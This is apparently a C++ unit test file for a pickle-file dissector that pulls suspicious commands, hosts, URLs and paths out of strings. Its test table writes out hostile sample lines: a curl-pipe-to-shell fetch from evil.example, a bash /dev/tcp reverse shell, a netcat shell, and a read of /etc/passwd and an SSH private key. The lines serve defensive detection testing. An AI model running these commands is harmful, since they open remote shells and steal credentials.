#include "dissectors/pickle/indicators.h"

#include <gtest/gtest.h>

namespace pickletap {
namespace {

std::string text_of(const Indicators& found) {
  std::string out;
  const auto add = [&](const char* name, const std::vector<std::string>& list) {
    for (const std::string& text : list) out += (out.empty() ? "" : " ") + std::string(name) + "=" + text;
  };
  add("command", found.commands);
  add("host", found.hosts);
  add("url", found.urls);
  add("path", found.paths);
  return out;
}

TEST(Indicators, AreTakenOutOfStrings) {
  const struct {
    std::string_view text;
    bool is_command;
    std::string_view want;
  } table[] = {
      {"id", true, "command=id"},
      {"id", false, ""},
      {"curl http://evil.example:8080/x.sh|sh", false, "host=evil.example url=http://evil.example:8080/x.sh"},
      {"wget https://user:pw@10.0.0.1/a", false, "host=10.0.0.1 url=https://user:pw@10.0.0.1/a"},
      {"http://[2001:db8::1]:80/", false, "host=2001:db8::1 url=http://[2001:db8::1]:80/"},
      {"bash -i >& /dev/tcp/10.1.2.3/4444 0>&1", false, "host=10.1.2.3"},
      {"nc -e /bin/sh 192.168.1.2 99", false, "host=192.168.1.2 path=/bin/sh"},
      {"10.0.0.1:8080", false, "host=10.0.0.1"},
      {"999.1.1.1 1.2.3 1.2.3.4.5 1.2.3.4x", false, ""},
      {"cat /etc/passwd ~/.ssh/id_rsa ./run.sh", false, "path=/etc/passwd path=~/.ssh/id_rsa path=./run.sh"},
      {"a/b 1/2 //", false, ""},
      {"/1/2", false, ""},
      {"://x", false, "path=//x"},
      {"[/bin/sh] http://[x", false, "url=http://[x path=/bin/sh"},
      {"", true, ""},
      {"ftp://", false, "url=ftp://"},
  };
  for (const auto& row : table) {
    Indicators found;
    collect_indicators(row.text, row.is_command, found);
    EXPECT_EQ(text_of(found), row.want) << row.text;
  }
}

TEST(Indicators, ListsAndTextsAreBounded) {
  Indicators found;
  for (int i = 0; i < 100; ++i) {
    const std::string n = std::to_string(i);
    collect_indicators("http://h" + n + ".example/x /etc/p" + n + " " + std::string(2000, 'c') + n, true, found);
  }
  for (const auto* list : {&found.commands, &found.hosts, &found.urls, &found.paths}) {
    EXPECT_EQ(list->size(), PickleReport::kMaxIndicators);
    for (const std::string& text : *list) EXPECT_LE(text.size(), 512U);
  }
  Indicators far;
  collect_indicators(std::string(5000, ' ') + "/etc/passwd", false, far);
  EXPECT_TRUE(far.paths.empty());  // beyond what is scanned
}

TEST(Indicators, EachIsToldOnce) {
  Indicators found;
  for (int i = 0; i < 3; ++i) collect_indicators("http://a.example/ /tmp/x /tmp/x", false, found);
  EXPECT_EQ(text_of(found), "host=a.example url=http://a.example/ path=/tmp/x");
}

}  // namespace
}  // namespace pickletap
